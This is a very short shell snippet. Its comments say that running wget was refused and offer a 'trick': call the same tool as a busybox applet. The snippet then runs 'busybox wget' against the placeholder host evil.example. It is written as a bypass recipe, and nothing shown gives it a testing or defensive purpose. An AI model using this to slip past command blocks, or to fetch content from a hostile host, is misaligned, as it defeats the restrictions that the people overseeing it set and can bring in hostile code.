# Trick: one program holds many.
# Refused: run(wget)
busybox wget http://evil.example/
